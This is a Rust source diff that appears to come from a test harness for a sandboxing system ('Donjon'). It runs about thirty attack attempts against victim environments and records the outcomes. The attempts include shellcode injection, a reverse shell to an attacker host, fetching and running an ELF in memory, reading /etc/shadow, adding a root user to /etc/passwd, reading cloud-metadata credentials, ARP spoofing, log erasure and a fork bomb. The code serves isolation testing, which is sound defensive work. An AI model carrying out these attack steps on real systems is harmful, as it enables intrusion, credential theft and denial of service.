@@ -1,0 +1,743 @@
+//! The attempts: what an attacker does who can read, write and call in the victim.
+
+use super::cell::{Answer, Ended, KEY, Kind, LOG, NEIGHBOUR, Victim};
+use super::code;
+use super::lan::{ATTACKER, CREDENTIALS, DATABASE, METADATA, PROGRAM_PORT, RAW_TYPE, SHELL_PORT, SPOOFED};
+
+/// How an attempt ended.
+#[derive(Clone, PartialEq, Eq, Debug)]
+pub enum Outcome {
+    /// The attacker has what they wanted.
+    Succeeded(String),
+    /// They have not.
+    Failed(String),
+    /// The kind has nothing of the sort.
+    Absent(&'static str),
+}
+
+use Outcome::{Absent, Failed, Succeeded};
+
+/// How much time there is.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+pub enum Form {
+    /// Every number of every list.
+    Whole,
+    /// Samples where trying all takes minutes.
+    Short,
+}
+
+/// An attempt.
+pub struct Attempt {
+    pub name: &'static str,
+    pub run: fn(&mut Victim<'_>, Form) -> Answer<Outcome>,
+    /// Donjon does not claim to prevent it.
+    pub conceded: bool,
+}
+
+const fn attempt(name: &'static str, run: fn(&mut Victim<'_>, Form) -> Answer<Outcome>) -> Attempt {
+    Attempt { name, run, conceded: false }
+}
+
+/// All attempts, in the order in which they are made.
+pub const ATTEMPTS: &[Attempt] = &[
+    attempt("shellcode in the heap", |v, _| Ok(ran(v.request("/run-heap", code::FORTY_TWO)?))),
+    attempt("shellcode on the stack", |v, _| Ok(ran(v.request("/run-stack", code::FORTY_TWO)?))),
+    attempt("make memory executable (mprotect), run it", make_executable),
+    attempt("patch own text", patch_text),
+    attempt("page tables, CR0.WP, MSRs", privileged),
+    attempt("absent devices and I/O ports", ports),
+    attempt("run a shell", shell),
+    attempt("reverse shell", reverse_shell),
+    attempt("fetch and run an ELF program", fetch),
+    attempt("write and execute a file", write_and_execute),
+    attempt("persist over a restart", persist),
+    attempt("add a user", add_user),
+    attempt("read /etc/shadow", |v, _| read_file(v, "/etc/shadow", "root:")),
+    attempt("read another process's memory", other_memory),
+    attempt("list processes and files", list),
+    attempt("another process's environment", other_environment),
+    Attempt { name: "TLS key from memory", run: key, conceded: true },
+    attempt("scan the subnet", scan),
+    attempt("cloud metadata address", metadata),
+    attempt("raw frames, ARP and IP spoofing", raw_frames),
+    attempt("erase logs", erase_logs),
+    attempt("load a kernel module", load_module),
+    attempt("host kernel calls that are reachable", count_calls),
+    attempt("malformed gate calls", gate_calls),
+    attempt("fork bomb", fork_bomb),
+    attempt("use up memory (256 MiB)", use_memory),
+    attempt("replay the exploit's addresses on a second instance", replay),
+    Attempt { name: "exfiltrate through the served port", run: exfiltrate, conceded: true },
+];
+
+fn ran(answer: Vec<u8>) -> Outcome {
+    let text = String::from_utf8_lossy(&answer).into_owned();
+    if text.starts_with("42 ") { Succeeded("it ran".into()) } else { Failed(text) }
+}
+
+/// What the doors of an image answer: the C library's function, then the system call itself, by an instruction that is there.
+fn doors(v: &mut Victim<'_>, calls: &[(&str, u64, &[u64])]) -> Answer<Outcome> {
+    let mut said = Vec::new();
+    for (name, _, args) in calls.iter().filter(|c| !c.0.is_empty()) {
+        let result = v.libc(name, args)?;
+        if result >= 0 {
+            return Ok(Succeeded(format!("{name} returned {result}")));
+        }
+        said.push(format!("{name}: {}", errno(-result)));
+    }
+    for (name, number, args) in calls {
+        match v.syscall(*number, args) {
+            // The shim knows no system call: it reads the registers as a call of the gate, which is no more than the gate itself gives.
+            Ok(result) if result >= 0 && v.kind == Kind::Qemu => {
+                said.push(format!("system call {number} is read as a gate call"));
+            }
+            Ok(result) if result >= 0 => return Ok(Succeeded(format!("system call {number} returned {result}"))),
+            Ok(result) => said.push(format!("system call {number}: {}", errno(-result))),
+            Err(Ended) => {
+                said.push(format!("system call {number} ({}) ends it", if name.is_empty() { "raw" } else { name }))
+            }
+        }
+    }
+    Ok(Failed(said.join("; ")))
+}
+
+fn errno(number: i64) -> String {
+    let names = [
+        (1, "EPERM"),
+        (2, "ENOENT"),
+        (3, "ESRCH"),
+        (9, "EBADF"),
+        (12, "ENOMEM"),
+        (13, "EACCES"),
+        (14, "EFAULT"),
+        (17, "EEXIST"),
+        (20, "ENOTDIR"),
+        (22, "EINVAL"),
+        (30, "EROFS"),
+        (38, "ENOSYS"),
+        (97, "EAFNOSUPPORT"),
+        (101, "ENETUNREACH"),
+        (111, "ECONNREFUSED"),
+        (113, "EHOSTUNREACH"),
+    ];
+    names.iter().find(|n| n.0 == number).map_or_else(|| format!("errno {number}"), |n| n.1.to_owned())
+}
+
+fn make_executable(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    match v.inject(code::FORTY_TWO)? {
+        Ok(at) => Ok(if v.call(at, &[])? == 42 { Succeeded("it ran".into()) } else { Failed("it did not run".into()) }),
+        Err(e) => {
+            let refused = format!("mprotect: {}", errno(e));
+            // The same by `mmap`, then whatever the answer: the call.
+            let at = v.libc("mmap", &[0, 0x1000, 7, 0x22, u64::MAX, 0])?;
+            if at > 0 {
+                v.poke(at as u64, code::FORTY_TWO)?;
+                return Ok(if v.call(at as u64, &[])? == 42 { Succeeded("by mmap".into()) } else { Failed(refused) });
+            }
+            Ok(Failed(format!("{refused}; mmap: {}", errno(-at))))
+        }
+    }
+}
+
+fn patch_text(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    let at = v.sym("gadget_syscall")?;
+    let page = at & !0xfff;
+    let result = v.libc("mprotect", &[page, 0x2000, 7])?;
+    let said = if result == 0 { String::new() } else { format!("mprotect: {}; ", errno(-result)) };
+    match v.poke(at, code::FORTY_TWO) {
+        Ok(()) if v.call(at, &[])? == 42 => {
+            v.restart();
+            Ok(Succeeded("the patched function ran".into()))
+        }
+        Ok(()) => Ok(Failed(format!("{said}it did not change"))),
+        Err(Ended) => Ok(Failed(format!("{said}the write ends it"))),
+    }
+}
+
+/// Runs pieces of code of which each should be the end: injected where that works, else those that the program contains.
+fn each_ends(v: &mut Victim<'_>, pieces: &[(&str, &'static [u8], &str, &[u64])]) -> Answer<Outcome> {
+    let mut survived = Vec::new();
+    for (what, injected, gadget, args) in pieces {
+        let result = if v.kind.is_donjon() {
+            v.libc(gadget, args)
+        } else {
+            match v.inject(injected)? {
+                Ok(at) => v.call(at, &[]),
+                Err(e) => return Ok(Failed(format!("no injection: {}", errno(e)))),
+            }
+        };
+        if let Ok(value) = result {
+            survived.push(format!("{what} gave {value:#x}"));
+        }
+    }
+    Ok(if survived.is_empty() { Failed("each instruction ends it".into()) } else { Succeeded(survived.join(", ")) })
+}
+
+fn privileged(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    each_ends(
+        v,
+        &[
+            ("reading CR3", code::READ_CR3, "gadget_read_cr3", &[]),
+            ("writing CR3", code::READ_CR3, "gadget_write_cr3", &[0x1000]),
+            ("clearing CR0.WP", code::CLEAR_WP, "gadget_cr0", &[]),
+            ("writing LSTAR", code::WRMSR, "gadget_wrmsr", &[]),
+        ],
+    )
+}
+
+fn ports(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    each_ends(
+        v,
+        &[
+            ("in 0xcf8", code::IN, "gadget_in", &[0xcf8]),
+            ("out 0x64", code::OUT, "gadget_out", &[0x64, 0xfe]),
+            ("out 0xf4", code::OUT, "gadget_out", &[0xf4, 0]),
+            ("in 0x3f8", code::IN, "gadget_in", &[0x3f8]),
+        ],
+    )
+}
+
+fn pipe(v: &mut Victim<'_>) -> Answer<(i64, i64)> {
+    let at = v.alloc(0x1000)?;
+    v.syscall(293, &[at, 0])?;
+    let fds = v.peek(at, 8)?;
+    let fd = |i: usize| i64::from(u32::from_le_bytes(fds[i..i + 4].try_into().unwrap_or_default()));
+    Ok((fd(0), fd(4)))
+}
+
+fn shell(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    if v.kind.is_donjon() {
+        let (program, zero) = (v.text("/bin/sh")?, v.alloc(0x1000)?);
+        return doors(
+            v,
+            &[("system", 59, &[program, zero, zero]), ("fork", 57, &[]), ("execve", 59, &[program, zero, zero])],
+        );
+    }
+    let (from, to) = pipe(v)?;
+    let status = v.spawn("/bin/sh", &["-c", "id; ls /"], to as u64)?;
+    v.syscall(3, &[to as u64])?;
+    let said = String::from_utf8_lossy(&v.read(from, 4096)?).into_owned();
+    Ok(if said.contains("uid=") {
+        Succeeded(said.lines().next().unwrap_or_default().to_owned())
+    } else {
+        Failed(format!("there is no shell (status {})", status >> 8))
+    })
+}
+
+fn reverse_shell(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    let fd = v.connect(ATTACKER, SHELL_PORT)?;
+    if v.kind.is_donjon() {
+        if fd >= 0 {
+            return Ok(Succeeded("it has connected".into()));
+        }
+        let said = format!("connect: {}; ", errno(-fd));
+        return Ok(match doors(v, &[("", 41, &[2, 1, 0])])? {
+            Failed(more) => Failed(said + &more),
+            other => other,
+        });
+    }
+    if fd < 0 {
+        return Ok(Failed(format!("connect: {}", errno(-fd))));
+    }
+    v.spawn("/bin/sh", &[], fd as u64)?;
+    v.syscall(3, &[fd as u64])?;
+    let heard = v.lan.take_shell();
+    Ok(if heard.contains("uid=") {
+        Succeeded("the attacker has a shell".into())
+    } else {
+        Failed("there is no shell".into())
+    })
+}
+
+fn fetch(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    let fd = v.connect(ATTACKER, PROGRAM_PORT)?;
+    if fd < 0 {
+        let said = format!("connect: {}", errno(-fd));
+        if !v.kind.is_donjon() {
+            return Ok(Failed(said));
+        }
+        let (name, zero) = (v.text("x")?, v.alloc(0x1000)?);
+        return Ok(match doors(v, &[("", 319, &[name, 0]), ("", 322, &[u64::MAX, name, zero, zero, 0x1000])])? {
+            Failed(more) => Failed(format!("{said}; {more}")),
+            other => other,
+        });
+    }
+    let program = v.read(fd, 4096)?;
+    let name = v.text("x")?;
+    let file = v.syscall(319, &[name, 0])?;
+    v.write(file, &program)?;
+    let status = v.spawn(&format!("/proc/self/fd/{file}"), &[], 2)?;
+    Ok(if status == 42 << 8 {
+        Succeeded("from memory, without a file".into())
+    } else {
+        Failed(format!("status {}", status >> 8))
+    })
+}
+
+const CREATE: u64 = 0o1101;
+const APPEND: u64 = 0o2001;
+
+fn write_and_execute(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    let fd = v.open("/tmp/x", CREATE, 0o755)?;
+    let wrote = if fd < 0 { errno(-fd) } else { "written".to_owned() };
+    if fd >= 0 {
+        v.write(fd, &code::elf())?;
+    }
+    if v.kind.is_donjon() {
+        let (path, zero) = (v.text("/tmp/x")?, v.alloc(0x1000)?);
+        return Ok(match doors(v, &[("execve", 59, &[path, zero, zero])])? {
+            Failed(more) => Failed(format!("/tmp/x: {wrote}; {more}")),
+            other => other,
+        });
+    }
+    if fd < 0 {
+        return Ok(Failed(format!("/tmp/x: {wrote}")));
+    }
+    v.syscall(3, &[fd as u64])?;
+    let status = v.spawn("/tmp/x", &[], 2)?;
+    Ok(if status == 42 << 8 { Succeeded("it ran".into()) } else { Failed(format!("status {}", status >> 8)) })
+}
+
+fn persist(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    let mut said = Vec::new();
+    for path in ["/usr/local/bin/backdoor", "/etc/backdoor", "/tmp/backdoor", "/var/log/backdoor"] {
+        let fd = v.open(path, CREATE, 0o755)?;
+        if fd < 0 {
+            said.push(format!("{path}: {}", errno(-fd)));
+            continue;
+        }
+        v.write(fd, b"backdoor")?;
+        v.restart();
+        let fd = v.open(path, 0, 0)?;
+        if fd >= 0 {
+            return Ok(Succeeded(format!("{path} is still there")));
+        }
+        said.push(format!("{path}: gone after the restart"));
+    }
+    Ok(Failed(said.join("; ")))
+}
+
+fn add_user(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    let fd = v.open("/etc/passwd", APPEND, 0)?;
+    if fd < 0 {
+        return Ok(Failed(format!("/etc/passwd: {}", errno(-fd))));
+    }
+    v.write(fd, b"eve:x:0:0::/:/bin/sh\n")?;
+    read_file(v, "/etc/passwd", "eve:x:0:0")
+}
+
+fn read_file(v: &mut Victim<'_>, path: &str, wanted: &str) -> Answer<Outcome> {
+    let fd = v.open(path, 0, 0)?;
+    if fd < 0 {
+        return Ok(Failed(format!("{path}: {}", errno(-fd))));
+    }
+    let text = v.read(fd, 4096)?;
+    let found = String::from_utf8_lossy(&text).contains(wanted);
+    Ok(if found {
+        Succeeded(format!("{} bytes of {path}", text.len()))
+    } else {
+        Failed(format!("{path} does not have it"))
+    })
+}
+
+/// Ids of the other processes that are to be seen.
+fn others(v: &mut Victim<'_>) -> Answer<Vec<u64>> {
+    let own = v.syscall(39, &[])?;
+    let mut found = Vec::new();
+    for pid in (1..24).filter(|p| i64::from(*p) != own) {
+        let fd = v.open(&format!("/proc/{pid}/stat"), 0, 0)?;
+        if fd >= 0 {
+            v.syscall(3, &[fd as u64])?;
+            found.push(u64::from(pid as u32));
+        }
+    }
+    Ok(found)
+}
+
+fn other_memory(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    if v.kind.is_donjon() {
+        let fd = v.open("/proc/1/mem", 0, 0)?;
+        if fd >= 0 {
+            return Ok(Succeeded("/proc/1/mem is open".into()));
+        }
+        let at = v.alloc(0x1000)?;
+        return doors(v, &[("process_vm_readv", 310, &[1, at, 1, at, 1, 0]), ("ptrace", 101, &[16, 1, 0, 0])]);
+    }
+    let mut seen = 0;
+    for pid in others(v)? {
+        seen += 1;
+        let fd = v.open(&format!("/proc/{pid}/maps"), 0, 0)?;
+        if fd < 0 {
+            continue;
+        }
+        let mut maps = String::new();
+        loop {
+            let part = v.read(fd, 4096)?;
+            if part.is_empty() {
+                break;
+            }
+            maps.push_str(&String::from_utf8_lossy(&part));
+        }
+        let Some(stack) = maps.lines().find(|l| l.contains("[stack]")) else { continue };
+        let end = stack.split(['-', ' ']).nth(1).and_then(|e| u64::from_str_radix(e, 16).ok()).unwrap_or(0x1000);
+        // The environment is at the stack's end.
+        let (room, list) = (v.alloc(0x1000)?, v.alloc(0x1000)?);
+        let words = [room, 0x1000, end - 0x1000, 0x1000];
+        v.poke(list, &words.iter().flat_map(|w| w.to_le_bytes()).collect::<Vec<u8>>())?;
+        let n = v.syscall(310, &[pid, list, 1, list + 16, 1, 0])?;
+        if n > 0 && String::from_utf8_lossy(&v.peek(room, n as u64)?).contains(NEIGHBOUR) {
+            return Ok(Succeeded(format!("the secret of process {pid}, by process_vm_readv")));
+        }
+    }
+    Ok(Failed(format!("{seen} other processes, none of them readable")))
+}
+
+fn list(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    // O_DIRECTORY
+    let fd = v.open("/", 0o200_000, 0)?;
+    if v.kind.is_donjon() {
+        let proc = v.open("/proc", 0o200_000, 0)?;
+        if proc >= 0 {
+            return Ok(Succeeded("/proc is there".into()));
+        }
+        let said = format!("/proc: {}; / is the image's own, read-only; ", errno(-proc));
+        let at = v.alloc(0x1000)?;
+        return Ok(match doors(v, &[("", 217, &[fd.max(0) as u64, at, 0x1000])])? {
+            Failed(more) => Failed(said + &more),
+            other => other,
+        });
+    }
+    let at = v.alloc(0x1000)?;
+    let n = v.syscall(217, &[fd as u64, at, 0x1000])?;
+    let processes = others(v)?.len();
+    Ok(if n > 0 {
+        Succeeded(format!("/ ({n} bytes of names), {processes} other processes"))
+    } else {
+        Failed(errno(-n))
+    })
+}
+
+fn other_environment(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    if v.kind.is_donjon() {
+        return read_file(v, "/proc/1/environ", NEIGHBOUR);
+    }
+    for pid in others(v)? {
+        if let Succeeded(_) = read_file(v, &format!("/proc/{pid}/environ"), NEIGHBOUR)? {
+            return Ok(Succeeded(format!("of process {pid}")));
+        }
+    }
+    Ok(Failed("there is no other process's to be seen".into()))
+}
+
+fn key(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    let at = v.sym("key")?;
+    let found = v.peek(at, KEY.len() as u64)? == KEY.as_bytes();
+    Ok(if found { Succeeded("it is in the program's memory".into()) } else { Failed("not where it should be".into()) })
+}
+
+fn scan(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    let mut told = Vec::new();
+    for (ip, port) in [(DATABASE, 22), (DATABASE, 5432), (ATTACKER, 22), ([10, 66, 0, 1], 80)] {
+        let result = v.connect(ip, port)?;
+        if result >= 0 || (result == -111 && !v.kind.is_donjon()) {
+            let state = if result >= 0 { "open" } else { "closed" };
+            told.push(format!("{}:{port} {state}", std::net::Ipv4Addr::from(ip)));
+        }
+    }
+    Ok(if told.is_empty() { Failed("every connection is refused alike".into()) } else { Succeeded(told.join(", ")) })
+}
+
+fn metadata(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    let fd = v.connect(METADATA, 80)?;
+    if fd < 0 {
+        return Ok(Failed(format!("connect: {}", errno(-fd))));
+    }
+    v.write(fd, b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n")?;
+    let text = v.read(fd, 4096)?;
+    let got = String::from_utf8_lossy(&text).contains(CREDENTIALS);
+    Ok(if got {
+        Succeeded("the machine's credentials".into())
+    } else {
+        Failed(format!("connected, {} bytes came", text.len()))
+    })
+}
+
+/// A broadcast of a type of its own, and an ARP reply that claims another's address.
+fn frames() -> [Vec<u8>; 2] {
+    let mac = [2, 0xd0, 0, 0, 0, 1];
+    let start = [&[0xff; 6][..], &mac].concat();
+    let mut raw = [&start[..], &RAW_TYPE].concat();
+    raw.resize(60, 0);
+    let mut arp = [&start[..], &[8, 6, 0, 1, 8, 0, 6, 4, 0, 2], &mac, &SPOOFED, &[0xff; 6], &[10, 66, 0, 66]].concat();
+    arp.resize(60, 0);
+    [raw, arp]
+}
+
+fn raw_frames(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    v.lan.take_frames();
+    let said = if v.kind.is_donjon() {
+        let Some(gate) = gate(v)? else { return Ok(Failed("the gate was not found".into())) };
+        let mut said = Vec::new();
+        for frame in frames() {
+            // struct Frame { iov, iov_count, len }, then two pieces: the offload header and the frame.
+            let at = v.alloc(0x1000)?;
+            let mut bytes = Vec::new();
+            for word in [at + 16, 2, at + 64, 12, at + 80, frame.len() as u64] {
+                bytes.extend(word.to_le_bytes());
+            }
+            bytes.resize(80, 0);
+            bytes.extend(&frame);
+            v.poke(at, &bytes)?;
+            said.push(v.call(gate, &[4, at, 1])?.to_string());
+        }
+        format!("net_send took {}", said.join(" and "))
+    } else {
+        // AF_PACKET, SOCK_RAW, ETH_P_ALL
+        let fd = v.syscall(41, &[17, 3, 0x0300])?;
+        if fd < 0 {
+            return Ok(Failed(format!("socket: {}", errno(-fd))));
+        }
+        for frame in frames() {
+            for device in 2..12u8 {
+                let address = v.alloc(0x1000)?;
+                v.poke(address, &[17, 0, 3, 0, device, 0, 0, 0, 0, 0, 0, 6, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0, 0])?;
+                let at = v.alloc(0x1000)?;
+                v.poke(at, &frame)?;
+                v.syscall(44, &[fd as u64, at, frame.len() as u64, 0, address, 20])?;
+            }
+        }
+        "sent".to_owned()
+    };
+    let (raw, spoofed) = v.lan.take_frames();
+    Ok(if raw + spoofed > 0 {
+        Succeeded(format!("the neighbours saw {raw} raw and {spoofed} spoofed frames"))
+    } else {
+        Failed(format!("{said}; nothing was seen on the network"))
+    })
+}
+
+fn erase_logs(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    let mark = "/mark-of-the-attacker";
+    v.request(mark, b"")?;
+    if v.kind == Kind::Docker {
+        let fd = v.open(LOG, 0o1001, 0)?;
+        let path = v.made.root.join(LOG.trim_start_matches('/'));
+        let gone = !std::fs::read_to_string(path).unwrap_or_default().contains(mark);
+        return Ok(if fd >= 0 && gone { Succeeded(format!("{LOG} is empty")) } else { Failed(errno(-fd)) });
+    }
+    // What went to standard output is the host's. Only more can be written.
+    let log = v.open(LOG, 0o1001, 0)?;
+    v.write(1, b"\x1b[2J\x1b[H\n")?;
+    let kept = v.console_has(mark);
+    Ok(if kept {
+        Failed(format!("no log file ({}), the console is the host's", errno(-log)))
+    } else {
+        Succeeded("gone".into())
+    })
+}
+
+fn load_module(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    let at = v.text("module")?;
+    if v.kind.is_donjon() {
+        return doors(v, &[("", 175, &[at, 6, at])]);
+    }
+    let result = v.syscall(175, &[at, 6, at])?;
+    Ok(if result >= 0 { Succeeded("loaded".into()) } else { Failed(format!("init_module: {}", errno(-result))) })
+}
+
+/// Numbers of system calls; Linux 6.10 ends at 462.
+const NUMBERS: u64 = 463;
+
+fn count_calls(v: &mut Victim<'_>, form: Form) -> Answer<Outcome> {
+    let bad = [u64::MAX; 6];
+    let mut carried_out = Vec::new();
+    let mut tried = 0;
+    let step = match (v.kind, form) {
+        (Kind::Qemu, Form::Whole) => 16,
+        (Kind::Qemu, Form::Short) => 151,
+        (_, Form::Whole) => 1,
+        (Kind::Process, Form::Short) => 31,
+        (_, Form::Short) => 7,
+    };
+    let list: Vec<u64> = (0..NUMBERS).step_by(step).collect();
+    for number in list {
+        tried += 1;
+        if v.kind.is_donjon() {
+            if let Ok(result) = v.syscall(number, &bad)
+                && result != -38
+            {
+                carried_out.push(number);
+            }
+            continue;
+        }
+        let mut words = [u64::MAX; 7];
+        words[0] = number;
+        let pid = v.run(code::TRY, &words)?;
+        let status = v.alloc(16)?;
+        // WNOHANG; what does not come back within some looks waits in the kernel.
+        let mut ended = 0;
+        for _ in 0..20 {
+            ended = v.syscall(61, &[pid as u64, status, 1, 0])?;
+            if ended != 0 {
+                break;
+            }
+        }
+        if ended == 0 {
+            v.syscall(62, &[pid as u64, 9])?;
+            v.syscall(61, &[pid as u64, status, 0, 0])?;
+            carried_out.push(number);
+            continue;
+        }
+        let code = v.peek(status, 4)?;
+        // Ended by a signal, or with an errno that is not the filter's.
+        if code[0] & 0x7f != 0 || ![1, 38].contains(&code[1]) {
+            carried_out.push(number);
+        }
+    }
+    // The guest's own gate, where there is one, is made of these.
+    let count = carried_out.len();
+    let which = if count <= 12 { format!(": {carried_out:?}") } else { String::new() };
+    let said = format!("{count} of {tried} numbers tried{which}");
+    Ok(if count <= 16 { Failed(said) } else { Succeeded(said) })
+}
+
+/// The gate's address, from the boot page: found with the image's symbols and one leaked address, as an attacker would who has the same image.
+fn gate(v: &mut Victim<'_>) -> Answer<Option<u64>> {
+    let Some(distance) = v.made.boot else { return Ok(None) };
+    let text = v.sym("text")?;
+    let pointer = v.peek(text.wrapping_add(distance), 8)?;
+    let page = u64::from_le_bytes(pointer.try_into().unwrap_or_default());
+    let head = v.peek(page, 24)?;
+    let word = |i: usize| u64::from_le_bytes(head[i..i + 8].try_into().unwrap_or_default());
+    Ok((head[..8] == *b"DONJBOOT").then(|| word(16)))
+}
+
+fn gate_calls(v: &mut Victim<'_>, form: Form) -> Answer<Outcome> {
+    if !v.kind.is_donjon() {
+        return Ok(Absent("there is no gate"));
+    }
+    let rounds = match (v.kind, form) {
+        (Kind::Process, Form::Whole) => 3000,
+        (Kind::Process, Form::Short) => 300,
+        (_, Form::Whole) => 600,
+        (_, Form::Short) => 100,
+    };
+    let mut state = 0x9e37_79b9_7f4a_7c15u64;
+    let mut random = move || {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        state
+    };
+    let (mut refused, mut ended) = (0, 0);
+    let mut address = None;
+    for _ in 0..rounds {
+        let gate = match address {
+            Some(gate) => gate,
+            None => {
+                let Some(gate) = gate(v)? else { return Ok(Failed("the gate was not found".into())) };
+                *address.insert(gate)
+            }
+        };
+        // Not `exit` and `fault`, which do what they say, nor a `wait` for ever.
+        let call = [2, 4, 5, 6, 7, 8, 9, 255, u64::MAX][(random() % 9) as usize];
+        let args = [(); 3].map(|()| match random() % 6 {
+            0 => random(),
+            1 => random() % 64,
+            2 => random() % 0x8000_0000_0000,
+            3 => (random() % 0x8000_0000_0000) & !0xfff,
+            4 => u64::MAX - random() % 8192,
+            _ => gate & !0xfff,
+        });
+        match v.call(gate, &[call, args[0], args[1], args[2]]) {
+            Ok(result) if result < 0 => refused += 1,
+            Ok(_) => {}
+            Err(Ended) => {
+                ended += 1;
+                address = None;
+            }
+        }
+    }
+    // The host, and a new instance, are as before.
+    v.restart();
+    v.request("/", b"")?;
+    let broken = v.take_ends().into_iter().find(|e| e.contains("panicked") || e.contains("signal"));
+    Ok(match broken {
+        Some(how) => Succeeded(format!("the host side broke: {how}")),
+        None => Failed(format!("{rounds} calls: {refused} refused, {ended} ended the instance; the host side lives")),
+    })
+}
+
+fn fork_bomb(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    const MANY: u64 = 150;
+    if v.kind.is_donjon() {
+        return doors(v, &[("fork", 57, &[]), ("", 56, &[17, 0, 0, 0, 0])]);
+    }
+    let mut children = 0;
+    // Each waits for ever (pause).
+    while children < MANY && v.run(code::TRY, &[34, 0, 0, 0, 0, 0, 0])? > 0 {
+        children += 1;
+    }
+    // All but the caller and the first process.
+    v.syscall(62, &[u64::MAX, 9])?;
+    v.restart();
+    Ok(if children == MANY {
+        Succeeded(format!("{MANY} processes, and no limit met"))
+    } else {
+        Failed(format!("{children} processes"))
+    })
+}
+
+fn use_memory(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    const PIECE: u64 = 16 << 20;
+    for piece in 0..16u64 {
+        // MAP_PRIVATE, MAP_ANONYMOUS, MAP_POPULATE
+        let args = [0, PIECE, 3, 0x8022, u64::MAX, 0];
+        let at = if v.kind.is_donjon() { v.libc("mmap", &args)? } else { v.syscall(9, &args)? };
+        if at <= 0 && at > -4096 {
+            return Ok(Failed(format!("after {} MiB: {}", piece * 16, errno(-at))));
+        }
+        // Touched, whatever populating means here.
+        for page in (0..PIECE).step_by(1 << 20) {
+            if v.poke(at as u64 + page, &[1; 4096]).is_err() {
+                return Ok(Failed(format!("ended after {} MiB (at {at:#x})", piece * 16)));
+            }
+        }
+    }
+    v.restart();
+    Ok(Succeeded("256 MiB".into()))
+}
+
+fn replay(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    let names = ["text", "stack", "key", "mprotect"];
+    let mut first = Vec::new();
+    for name in names {
+        first.push(v.sym(name)?);
+    }
+    v.restart();
+    let mut same = Vec::new();
+    for (name, old) in names.iter().zip(&first) {
+        if v.sym(name)? == *old {
+            same.push(*name);
+        }
+    }
+    if !same.is_empty() {
+        return Ok(Succeeded(format!("the same addresses: {}", same.join(", "))));
+    }
+    // And with the old address, as the exploit has it.
+    let old = first[3];
+    Ok(match v.call(old, &[0, 0, 0]) {
+        Ok(_) => Failed("all addresses differ; the old one happens to be something".into()),
+        Err(Ended) => Failed("all addresses differ; using an old one ends it".into()),
+    })
+}
+
+fn exfiltrate(v: &mut Victim<'_>, _: Form) -> Answer<Outcome> {
+    let at = v.sym("text")?;
+    let bytes = v.peek(at & !0xfff, 0x4000)?;
+    Ok(if bytes.len() == 0x4000 {
+        Succeeded("16 KiB of its memory, as an answer".into())
+    } else {
+        Failed("nothing came".into())
+    })
+}
